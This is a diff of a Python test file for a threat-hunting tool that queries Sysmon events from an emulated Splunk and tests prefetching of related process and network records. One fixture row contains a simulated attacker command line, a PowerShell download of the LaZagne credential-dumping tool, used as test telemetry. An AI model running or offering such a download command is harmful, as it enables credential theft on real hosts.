@@ -120,11 +120,7 @@ def test_paging_and_workers_give_the_same_store(profile):
         s = Session(":memory:", now=NOW)
         s.run(f"p = GET process FROM splunk WHERE command_line LIKE '%ipconfig%' {SPAN}")
         db = s.store.db
-        # ids of processes without a GUID (the parents) derive from their observation's id,
-        # which is unique to each pull: compare the objects without ids, and the graph by DISP
-        objects = sorted(json.dumps({k: v for k, v in json.loads(r[0]).items()
-                                     if k != "id" and not k.endswith("_ref")}, sort_keys=True)
-                         for r in db.execute("SELECT props FROM entities"))
+        objects = sorted(r[0] for r in db.execute("SELECT props FROM entities"))
         shown = s.run("DISP p ATTR name, command_line, parent_ref.name, binary_ref.name, "
                       "binary_ref.parent_directory_ref.path")[-1].rows
         results.append((s.vars["p"].entities, objects, sorted(map(tuple, shown)),
@@ -244,3 +240,97 @@ def test_time_range_is_right_in_any_splunk_time_zone(monkeypatch, tmp_path):
                   "START 2024-12-01T01:00:00Z STOP 2024-12-23T23:00:00Z")
             got = sorted(r[0] for r in s.run("DISP p ATTR command_line")[-1].rows)
             assert got == ["early", "inside"], tz
+
+
+# -- prefetch ---------------------------------------------------------------------------------
+
+def _net(i: int, guid_of: int, t: str, dest: str) -> dict:
+    """A Sysmon network connection (EID 3) made by the process of ``_row(guid_of, ...)``."""
+    guid = f"{{4b6e0fd2-{guid_of:04x}-675a-0e00-000000002a00}}"
+    return {"_time": f"{t}+00:00", "host": "WindowsTarget", "index": "main",
+            "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
+            "sourcetype": "XmlWinEventLog", "_sourcetype": "XmlWinEventLog",
+            "_raw": f"<Event><EventID>3</EventID><n>{i}</n></Event>", "signature_id": "3",
+            "signature": "Network connection detected", "vendor_product": "Microsoft Sysmon",
+            "process_guid": guid, "process_id": str(1000 + guid_of),
+            "process_name": "powershell.exe", "process_path":
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "src_ip": "10.0.0.5", "src_port": str(50000 + i), "dest_ip": "140.82.114.3",
+            "dest_port": "443", "transport": "tcp", "protocol": "ip", "user": "inf808"}
+
+
+PREFETCH_ROWS = [
+    _row(40, "powershell.exe", "powershell.exe -C iwr https://github.com/x/LaZagne.exe",
+         t="2024-12-12T16:40:00.000"),
+    _net(1, 40, "2024-12-12T16:41:00.000", "140.82.114.3"),
+    _net(2, 40, "2024-12-12T16:42:00.000", "140.82.114.3"),
+    # the same process an hour later: outside the records' range + 5 minutes
+    _row(41, "powershell.exe", "powershell.exe -C late", t="2024-12-12T18:00:00.000"),
+]
+PREFETCH_ROWS[-1]["process_guid"] = PREFETCH_ROWS[0]["process_guid"]
+
+
+@pytest.fixture
+def prefetch_profile(monkeypatch, tmp_path):
+    monkeypatch.setenv("STIXGRAPH_CONFIG", str(tmp_path / "none.toml"))
+    with Emulator(EventStore(PREFETCH_ROWS), now=NOW) as emu, \
+            splunk_profile(emu, options={"retry_backoff": 0.01}):
+        yield emu
+
+
+PIVOT = f"""nt = GET network-traffic FROM splunk WHERE dst_port = 443 {SPAN}
+procs = FIND process CREATED nt
+"""
+
+
+def test_find_prefetches_the_records_of_what_it_found(prefetch_profile):
+    s = Session(":memory:", now=NOW)
+    s.run(PIVOT)
+    # the network events name the process; its command line is in its creation event, which
+    # only the prefetch query brings in (time range: the records' own, +- 5 minutes)
+    shown = s.run("DISP procs ATTR name, command_line")[-1].rows
+    assert [tuple(r) for r in shown] == [
+        ("powershell.exe", "powershell.exe -C iwr https://github.com/x/LaZagne.exe")]
+    assert s.vars["procs"].records == 3  # two connections + the creation
+    n_obs = s.store.db.execute("SELECT COUNT(*) FROM observations").fetchone()[0]
+    assert n_obs == 3
+    # asking again brings the same Splunk events: the same observations, not new copies
+    s.run("procs2 = FIND process CREATED nt")
+    assert s.store.db.execute("SELECT COUNT(*) FROM observations").fetchone()[0] == n_obs
+    assert s.vars["procs2"].records == 3
+
+
+def test_prefetch_can_be_turned_off(prefetch_profile, monkeypatch):
+    s = Session(":memory:", now=NOW, prefetch=False)
+    s.run(PIVOT)
+    assert s.run("DISP procs ATTR command_line")[-1].rows in ([], [[None]], [(None,)])
+    assert s.vars["procs"].records == 2
+    # or per profile: connection.options.prefetch = false
+    conn = json.loads(os.environ["STIXSHIFTER_SPLUNK_CONNECTION"])
+    conn["options"]["prefetch"] = False
+    monkeypatch.setenv("STIXSHIFTER_SPLUNK_CONNECTION", json.dumps(conn))
+    s = Session(":memory:", now=NOW)
+    s.run(PIVOT)
+    assert s.vars["procs"].records == 2
+
+
+def test_get_prefetches_too_unless_direct(prefetch_profile):
+    s = Session(":memory:", now=NOW)
+    # a network GET finds the process's connections; GET process by name finds the creation
+    # event, and the prefetch adds the connections of the same process
+    s.run(f"p = GET process FROM splunk WHERE command_line LIKE '%LaZagne%' {SPAN}")
+    assert s.vars["p"].entities == 1
+    assert s.vars["p"].records == 4  # creation, two connections, and the 18:00 event (in SPAN)
+
+
+def test_failed_prefetch_keeps_the_result_and_says_so(prefetch_profile):
+    s = Session(":memory:", now=NOW)
+    s.run(f"nt = GET network-traffic FROM splunk WHERE dst_port = 443 {SPAN}")
+    before = _store_state(s)
+    prefetch_profile.faults = Faults(fail_login=True)
+    out = s.run("procs = FIND process CREATED nt")
+    assert s.vars["procs"].entities == 1 and s.vars["procs"].records == 2
+    assert any("prefetch of procs" in getattr(m, "text", "") and "login" in m.text
+               for m in out)
+    # only the new variable was added: no half-stored prefetch
+    assert _store_state(s)[:3] == before[:3]
